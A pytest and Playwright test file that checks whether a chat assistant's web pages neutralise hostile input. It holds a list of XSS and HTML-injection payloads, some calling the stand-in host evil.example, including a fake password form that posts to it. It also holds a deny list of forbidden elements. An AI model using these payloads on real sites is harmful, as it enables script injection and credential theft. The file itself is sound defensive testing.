"""Hostile texts in every field that is shown, in Chromium: no script, no foreign request, no form, no overlay."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from assistant import Assistant
from assistant.dates import PartialDate
from assistant.embedding import WordLengthEmbedder
from assistant.records import Report
from assistant.turns import Feedback, Verdict
from tests.browser import PATIENCE, Chat, chatting, needs_chromium, serving, texts_of

from playwright.sync_api import Browser, Page, expect  # isort: skip  # tests.browser skips where it is absent

pytestmark = needs_chromium

EVIL = "evil.example"

PAYLOADS = (
    f"<script src=http://{EVIL}/a.js></script>",
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    f"<img src=http://{EVIL}/a.png>",
    f"![x](http://{EVIL}/a.png)",
    "[click](javascript:window.pwned=1)",
    "<a href=javascript:window.pwned=1>click</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>click</a>",
    "<svg onload=window.pwned=1>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    f"<iframe src=http://{EVIL}/></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    f"<form action=http://{EVIL}/><input name=password type=password><button>Log in</button></form>",
    "<div style='position:fixed;inset:0;z-index:9999;background:red'>overlay</div>",
    f"<style>*{{background:url(http://{EVIL}/a)}}</style>",
    f"<link rel=stylesheet href=http://{EVIL}/a.css>",
    f"<base href=http://{EVIL}/>",
    f"<meta http-equiv=refresh content='0;url=http://{EVIL}/'>",
    f"<video src=http://{EVIL}/a.mp4 autoplay></video>",
    f"<audio src=http://{EVIL}/a.mp3 autoplay></audio>",
    f"<object data=http://{EVIL}/a></object>",
    f"<embed src=http://{EVIL}/a>",
    "<details open ontoggle=window.pwned=1>x</details>",
    '" onmouseover="window.pwned=1" autofocus onfocus="window.pwned=1" x="',
    "</bdi></p></article><h1>injected</h1><script>window.pwned=1</script>",
    "${window.pwned=1} {{window.pwned=1}} {window.pwned=1} <%= window.pwned=1 %>",
    "\u202e\u2066<b>turned</b>\u2069 <!-- --><![CDATA[<script>window.pwned=1</script>]]>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1></style></table></mtext></math>",
)

# What no text of a report or a person may put into the page.
FORBIDDEN = (
    "script, iframe, object, embed, style, link, base, meta, video, audio, svg animate, math, "
    "form:not([action='/logout']), h1:not(.masthead h1), "
    "[onerror], [onload], [onmouseover], [onfocus], [ontoggle], [onbegin], "
    f"a[href^='javascript' i], a[href^='data' i], [src*='{EVIL}']"
)
SHOWN = ":is(#header, #transcript, #cards, #desk, #library, .report-view)"


def hostile(number: int, payload: str) -> Report:
    """A report that says it in every field, and in every detail that a reader may give it."""
    deaths = ("deaths_low", "deaths_best", "deaths_high") if number % 2 else ("deaths_reported",)
    about = ("author", "archive_url", "dateline", "retrieved", "published_from", "page_starts", "original_source")
    event = ("event_id", "event_type", "conflict", "actor_a", "actor_b", "place", "latitude", "longitude", *deaths)
    details = dict.fromkeys((*about, *event), payload)
    return Report.make(
        f"{payload} Convoy {number} crossed the river near the old bridge. {payload}",
        title=payload,
        source=payload,
        url=payload if number % 2 else f"http://{EVIL}/?{payload}",
        published=PartialDate(2017, 11, 1 + number % 28),
        language="en",
        details=details,
    )


@dataclass(frozen=True)
class House:
    """A running chat. `everything` has all payloads in each field; `noted` is a conversation with them as notes."""

    address: str
    assistant: Assistant
    everything: Report
    noted: str


@pytest.fixture(scope="module")
def house(tmp_path_factory: pytest.TempPathFactory) -> Iterator[House]:
    folder = tmp_path_factory.mktemp("hostile")
    everything = hostile(29, " ".join(PAYLOADS))
    with Assistant(folder / "data", embedder=WordLengthEmbedder()) as assistant:
        reports = [hostile(number, payload) for number, payload in enumerate(PAYLOADS)]
        assert not assistant.ingest([*reports, everything]).refused
        assert not assistant.ingest(files(folder / "inbox")).refused
        with serving(assistant) as address:
            yield House(address, assistant, everything, conversations(assistant))


def files(folder: Path) -> Iterator[Path]:
    """Files whose names are payloads, as far as a file can be called so: their reports have no other title."""
    folder.mkdir()
    for number, payload in enumerate(PAYLOADS):
        path = folder / f"{payload.replace('/', '∕')}.txt"
        path.write_text(f"Post {number} was given up.", "utf-8")
        yield path


def conversations(assistant: Assistant) -> str:
    """A conversation by each of these names, and one whose answers all have such a note; its id."""
    noted = assistant.conversation()
    for number, payload in enumerate(PAYLOADS, start=1):
        one = assistant.conversation()
        one.ask("Which convoy crossed the river?")
        assistant.conversations().rename(one.id, payload)
        noted.ask(f"Which convoy crossed bridge {number}?")
        assistant.conversations().judge(noted.id, number, Feedback(Verdict.WRONG, payload))
    return noted.id


@pytest.fixture
def chat(browser: Browser, house: House) -> Iterator[Chat]:
    with chatting(browser, house.address, "/en/") as chat:
        yield chat


def expect_harmless(page: Page) -> None:
    assert page.locator(SHOWN).locator(FORBIDDEN).count() == 0
    assert page.evaluate("window.pwned") is None
    covering = "[...document.querySelectorAll('*')].filter(e => getComputedStyle(e).zIndex === '9999').length"
    assert page.evaluate(covering) == 0


def test_row_12_hostile_reports_do_nothing(chat: Chat, house: House) -> None:
    assert len(PAYLOADS) == 28
    for first in range(0, len(PAYLOADS), 4):
        asked = " ".join(PAYLOADS[first : first + 4])
        turn = chat.ask(f"{asked} Which convoy {first} crossed the river?")
        assert PAYLOADS[first][:8] in (turn.locator(".question").text_content() or "")
    expect(chat.page.locator("#cards .card").first).to_be_attached()
    expect_harmless(chat.page)
    chat.page.goto(f"{house.address}/en/?r={house.everything.id}")
    expect(chat.page.locator(".report-view")).to_contain_text("overlay")
    expect_harmless(chat.page)


def test_row_12_hostile_file_names_do_nothing(chat: Chat) -> None:
    page = chat.page
    page.get_by_role("tab", name="Library").click()
    titles = page.locator(".reports a.report")
    expect(titles).to_have_count(50)
    shown = texts_of(titles)
    expect_harmless(page)
    page.locator(".library [data-page='1']").click()
    expect(titles).to_have_count(2 * len(PAYLOADS) + 1 - 50)
    shown += texts_of(titles)
    assert {payload.replace("/", "∕").split(">")[0] for payload in PAYLOADS} <= {one.split(">")[0] for one in shown}
    dropped = page.evaluate_handle(
        """names => { const moved = new DataTransfer();
            for (const name of names) moved.items.add(new File([" "], name + ".txt")); return moved; }""",
        list(PAYLOADS),
    )
    page.dispatch_event(".upload", "drop", {"dataTransfer": dropped})
    results = page.locator(".upload .files li")
    expect(results.locator(".result")).to_contain_text(["refused: "] * len(PAYLOADS), timeout=PATIENCE)
    assert texts_of(results.locator("bdi")) == [f"{payload}.txt" for payload in PAYLOADS]
    expect_harmless(page)


def test_row_12_hostile_titles_of_conversations_and_notes_do_nothing(chat: Chat, house: House) -> None:
    page = chat.page
    listed = page.locator(".conversations .open")
    expect(listed.nth(len(PAYLOADS))).to_be_attached()
    assert set(PAYLOADS) <= set(texts_of(listed))
    for act in ("Rename", "Delete"):
        item = page.locator(".conversations li", has_text="overlay").first
        item.locator(".acts summary").click()
        item.get_by_role("button", name=act).click()
        expect_harmless(page)
        page.keyboard.press("Escape")
    page.goto(f"{house.address}/en/?c={house.noted}")
    notes = page.locator(".feedback .said")
    expect(notes).to_have_count(len(PAYLOADS), timeout=PATIENCE)
    assert texts_of(notes) == list(PAYLOADS)
    expect_harmless(page)
    for number, payload in list(enumerate(PAYLOADS, start=1))[::5]:
        page.locator(f"#t{number} .feedback button.note").press("Enter")
        expect(page.locator("dialog.feedback-note textarea")).to_have_value(payload)
        page.keyboard.press("Control+Enter")
        expect(page.locator("dialog.feedback-note")).to_be_hidden()
    expect(notes).to_have_text([" ".join(payload.split()) for payload in PAYLOADS])
    expect_harmless(page)
